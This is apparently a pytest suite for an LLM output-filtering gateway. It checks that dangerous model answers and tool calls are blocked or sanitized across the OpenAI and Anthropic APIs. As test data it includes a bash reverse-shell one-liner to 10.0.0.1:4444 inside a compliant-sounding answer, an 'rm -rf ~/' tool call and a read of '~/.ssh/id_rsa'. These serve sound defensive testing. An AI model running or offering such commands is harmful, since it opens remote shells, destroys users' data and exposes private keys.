"""Dangerous answers end to end: real mitmdump, the openai and anthropic SDKs, the mock upstream.

The mock echoes the user's text back as the answer (`x-mock-echo`), so each test chooses the answer.
"""

from __future__ import annotations

import json
import time

import anthropic
import httpx
import openai
import pytest

REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
SHELL_ANSWER = f"Sure. To get a shell back, run:\n\n    {REVERSE_SHELL}\n\nThen wait for the connection.\n"
WITHHELD = "This answer was withheld by the gateway."


@pytest.fixture(scope="module")
def tokens(gateway, mock_llm):
    upstream = mock_llm.url + "/v1"
    return {name: gateway.register(upstream, policy=name)["base_url"] for name in ("default", "permissive")}


def echo(delta_chars: int = 1, **more: str) -> dict:
    return {"x-mock-echo": "1", "x-mock-delta-chars": str(delta_chars), **more}


def test_openai_stream_reverse_shell_in_one_character_deltas_is_blocked(gateway, tokens):
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    raw = client.chat.completions.with_raw_response.create(
        model="m", stream=True, messages=[{"role": "user", "content": SHELL_ANSWER}], extra_headers=echo())
    text, finish = "", None
    for chunk in raw.parse():
        for choice in chunk.choices:
            text += choice.delta.content or ""
            finish = choice.finish_reason or finish
    assert "/dev/tcp" not in text and "10.0.0.1" not in text
    assert text.startswith("Sure. To get a shell back, run:")
    assert text.endswith(f"[aegis:blocked danger.reverse_shell] {WITHHELD}")
    assert finish == "content_filter"
    row = gateway.audit_rows(raw.headers["x-aegis-request-id"])[0]
    assert row.action == "block"
    assert any(f["category"] == "danger.reverse_shell" for f in row.findings)
    assert any(n.startswith("answer withheld: danger.reverse_shell") for n in row.notes)


def test_the_same_answer_buffered_gives_the_same_text(tokens):
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    streamed = "".join(c.choices[0].delta.content or "" for c in client.chat.completions.create(
        model="m", stream=True, messages=[{"role": "user", "content": SHELL_ANSWER}], extra_headers=echo(3))
        if c.choices)
    raw = client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": SHELL_ANSWER}], extra_headers=echo())
    completion = raw.parse()
    assert completion.choices[0].message.content == streamed
    assert completion.choices[0].finish_reason == "content_filter"
    assert raw.headers["x-aegis-action"] == "block"
    assert "danger.reverse_shell" in raw.headers["x-aegis-findings"]


def test_anthropic_stream_dangerous_tool_call_is_blocked(gateway, tokens):
    client = anthropic.Anthropic(base_url=tokens["default"], api_key="x", max_retries=0)
    headers = {"x-mock-tool-name": "Bash", "x-mock-tool-args": json.dumps({"command": "rm -rf ~/"}),
               "x-mock-delta-chars": "2"}
    with client.messages.stream(model="c", max_tokens=100, messages=[{"role": "user", "content": "clean up"}],
                                extra_headers=headers) as stream:
        message = stream.get_final_message()
    (call,) = [b for b in message.content if b.type == "tool_use"]
    assert call.name == "Bash"
    assert call.input == {"aegis_blocked": f"[aegis:blocked tool.dangerous_command] {WITHHELD}"}
    assert message.stop_reason == "refusal"


def test_openai_buffered_dangerous_tool_call_keeps_its_shape(tokens):
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    headers = {"x-mock-tool-name": "read_file", "x-mock-tool-args": json.dumps({"path": "~/.ssh/id_rsa"})}
    raw = client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": "show me my key"}], extra_headers=headers)
    choice = raw.parse().choices[0]
    call = choice.message.tool_calls[0]
    assert call.function.name == "read_file"
    assert json.loads(call.function.arguments) == {
        "aegis_blocked": f"[aegis:blocked tool.secret_file_read] {WITHHELD}"}
    assert choice.finish_reason == "content_filter"
    assert raw.headers["x-aegis-action"] == "block"


@pytest.mark.parametrize("stream", [False, True])
def test_openai_legacy_function_call_is_guarded(tokens, stream):
    """A request with `functions` gets `function_call` answers (the older API), checked like tool calls."""
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    headers = {"x-mock-tool-name": "read_file", "x-mock-tool-args": json.dumps({"path": "~/.ssh/id_rsa"}),
               "x-mock-delta-chars": "2"}
    functions = [{"name": "read_file", "parameters": {"type": "object", "properties": {"path": {"type": "string"}}}}]
    raw = client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": "show me my key"}], functions=functions,
        stream=stream, extra_headers=headers)
    if stream:
        arguments, name, finish = "", None, None
        for chunk in raw.parse():
            for choice in chunk.choices:
                call = choice.delta.function_call
                if call is not None:
                    name = call.name or name
                    arguments += call.arguments or ""
                finish = choice.finish_reason or finish
    else:
        choice = raw.parse().choices[0]
        name, arguments, finish = choice.message.function_call.name, choice.message.function_call.arguments, \
            choice.finish_reason
    assert name == "read_file" and "id_rsa" not in arguments
    assert json.loads(arguments) == {"aegis_blocked": f"[aegis:blocked tool.secret_file_read] {WITHHELD}"}
    assert finish == "content_filter"


@pytest.mark.parametrize("content_type", ["text/plain", "application/octet-stream"])
def test_json_answer_with_another_content_type_is_still_checked(tokens, content_type):
    r = httpx.post(tokens["default"] + "/chat/completions",
                   json={"model": "m", "messages": [{"role": "user", "content": SHELL_ANSWER}]},
                   headers=echo() | {"x-mock-content-type": content_type})
    assert r.headers["content-type"] == content_type
    text = json.loads(r.text)["choices"][0]["message"]["content"]
    assert "/dev/tcp" not in text and text.endswith(WITHHELD)


def test_responses_stream_block_reads_as_a_normal_end(tokens):
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    with client.responses.stream(model="m", input=SHELL_ANSWER, extra_headers=echo(2)) as stream:
        deltas = "".join(e.delta for e in stream if e.type == "response.output_text.delta")
        final = stream.get_final_response()
    assert final.output_text == deltas
    assert deltas.endswith(WITHHELD) and "/dev/tcp" not in deltas


def test_block_mid_stream_hangs_up_on_a_slow_upstream(tokens):
    """The upstream would take about 10 s for the whole answer; the HTTP body the client reads ends
    right after the block (SDKs stop at `[DONE]` anyway, so this reads the raw body to its end)."""
    answer = SHELL_ANSWER + "And now a very long explanation. " * 60
    body = {"model": "m", "stream": True, "messages": [{"role": "user", "content": answer}]}
    started = time.monotonic()
    with httpx.stream("POST", tokens["default"] + "/chat/completions", json=body, timeout=30,
                      headers=echo(4, **{"x-mock-delay-ms": "20"})) as response:
        raw = b"".join(response.iter_bytes())
    elapsed = time.monotonic() - started
    assert b"data: [DONE]" in raw and WITHHELD.encode() in raw and b"/dev/tcp" not in raw
    assert b": aegis request_id=" in raw and b"action=block" in raw
    assert elapsed < 5, f"the body ended after {elapsed:.1f} s: the upstream stream was not cut"
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    ok = client.chat.completions.create(model="m", messages=[{"role": "user", "content": "hello"}],
                                        extra_headers=echo())
    assert ok.choices[0].message.content == "hello"   # the next request works as usual


def test_benign_shell_help_streams_unchanged(tokens):
    answer = "To start over:\n\n```sh\nrm -rf node_modules\nnpm ci\n```\nThen `git status` shows nothing new.\n"
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    text = "".join(c.choices[0].delta.content or "" for c in client.chat.completions.create(
        model="m", stream=True, messages=[{"role": "user", "content": answer}], extra_headers=echo(1)) if c.choices)
    assert text == answer


def test_policy_level_decides_replace_or_block(tokens):
    """The permissive policy (level low) replaces the fragment and lets the rest of the answer through."""
    client = anthropic.Anthropic(base_url=tokens["permissive"], api_key="x", max_retries=0)
    raw = client.messages.with_raw_response.create(
        model="c", max_tokens=100, messages=[{"role": "user", "content": SHELL_ANSWER}], extra_headers=echo())
    text = raw.parse().content[0].text
    assert "[aegis:removed danger.reverse_shell]" in text and "/dev/tcp" not in text
    assert text.endswith("Then wait for the connection.\n")
    assert raw.headers["x-aegis-action"] == "sanitize"


def test_one_line_answer_streams_before_its_line_ends(tokens):
    """A one-line answer is not held until its line ends: the danger hold-back keeps back only the tail
    where a rule could still match, so the text reaches the client while the upstream is still sending."""
    answer = "Paris is the capital of France and its largest city, on the Seine, with about two million people."
    client = openai.OpenAI(base_url=tokens["default"], api_key="x", max_retries=0)
    start, arrivals = time.monotonic(), []
    for chunk in client.chat.completions.create(
            model="m", stream=True, messages=[{"role": "user", "content": answer}],
            extra_headers=echo(4, **{"x-mock-delay-ms": "30"})):
        if chunk.choices and chunk.choices[0].delta.content:
            arrivals.append((time.monotonic() - start, chunk.choices[0].delta.content))
    assert "".join(text for _, text in arrivals) == answer
    # The upstream sends 25 events 30 ms apart: text arrives over that time, not all at its end.
    assert len(arrivals) >= 3, arrivals
    assert arrivals[-1][0] - arrivals[0][0] > 0.3, arrivals
